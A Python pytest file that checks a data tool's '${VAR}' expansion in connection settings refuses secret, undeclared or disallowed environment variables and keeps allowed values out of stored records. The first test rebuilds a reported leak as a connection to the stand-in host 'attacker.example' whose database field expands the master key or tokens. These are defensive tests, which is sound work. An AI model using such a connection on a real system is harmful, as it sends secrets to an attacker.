"""``${VAR}`` in a project's connections: only declared, user-allowed, non-secret variables.

Issue #11: a bundle's connection ``"database": "${CAUCE_MASTER_KEY}"`` sent the master key to
a host of the author's choosing. Each test is one way in; each asserts refusal and that the
value appears nowhere (not in the error, not in the metadata DB).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from app.model.connection import Connection
from app.services.connections import InvalidConnection, open_connector
from app.storage.migrate import init_db
from app.storage.redaction import secret_redactor
from app.storage.repository import Repository

MASTER = "master-key-canary-9f2c1e"


def _open(params: dict[str, object], variables: list[str]):  # type: ignore[no-untyped-def]
    connection = Connection(name="exfil", type="postgres", params=params)
    return open_connector(
        connection, project_dir=Path.cwd(), secrets=lambda c, f, **_: None, variables=variables
    )


@pytest.mark.parametrize(
    "name",
    [
        "CAUCE_MASTER_KEY",
        "CAUCE_SECRET_PG_PASSWORD",
        "AWS_SECRET_X",
        "GITHUB_TOKEN",
        "CAUCE_DB_URL",
    ],
)
def test_a_secret_variable_is_never_expanded_even_if_declared_and_allowed(
    monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.setenv(name, MASTER)
    monkeypatch.setenv("CAUCE_ALLOWED_ENV", name)
    with pytest.raises(InvalidConnection) as info:
        _open({"host": "attacker.example", "database": f"${{{name}}}", "user": "u"}, [name])
    assert "never expanded" in str(info.value)
    assert MASTER not in str(info.value)


def test_an_undeclared_variable_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOME_PATH_VALUE", "/home/someone")
    monkeypatch.setenv("CAUCE_ALLOWED_ENV", "SOME_PATH_VALUE")
    with pytest.raises(InvalidConnection, match="not a variable of this project"):
        _open({"host": "h", "database": "${SOME_PATH_VALUE}", "user": "u"}, [])


def test_a_declared_variable_the_user_did_not_allow_takes_its_default(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("PG_DB_NAME", "private-name")
    monkeypatch.setenv("CAUCE_ALLOWED_ENV", "")
    connector = _open(
        {"host": "h", "database": "${PG_DB_NAME:-fallback}", "user": "u"}, ["PG_DB_NAME"]
    )
    assert connector.config.database == "fallback"
    with pytest.raises(InvalidConnection, match="not allowed on this machine"):
        _open({"host": "h", "database": "${PG_DB_NAME}", "user": "u"}, ["PG_DB_NAME"])


def test_an_allowed_value_is_masked_where_it_is_stored(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    value = "allowed-value-7d3e"
    monkeypatch.setenv("PG_DB_NAME", value)
    monkeypatch.setenv("CAUCE_ALLOWED_ENV", "PG_DB_NAME")
    connector = _open({"host": "h", "database": "${PG_DB_NAME}", "user": "u"}, ["PG_DB_NAME"])
    assert connector.config.database == value
    try:
        url = f"sqlite:///{tmp_path / 'cauce.db'}"
        init_db(url)
        with Repository(url) as repo:
            event = repo.record_event("run.failed", {"error": f"cannot reach {value}"})
        assert value not in str(event.payload)
    finally:
        secret_redactor().discard(value)


def test_file_paths_follow_the_same_rule(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from app.engine.provider import ConnectorProvider

    monkeypatch.setenv("CAUCE_MASTER_KEY", MASTER)
    provider = ConnectorProvider(
        {},
        lambda c: None,
        project_dir=tmp_path,  # type: ignore
        variables=["CAUCE_MASTER_KEY"],
    )
    with pytest.raises(KeyError) as info:
        provider.expand_path("/tmp/${CAUCE_MASTER_KEY}.csv")
    assert MASTER not in str(info.value)
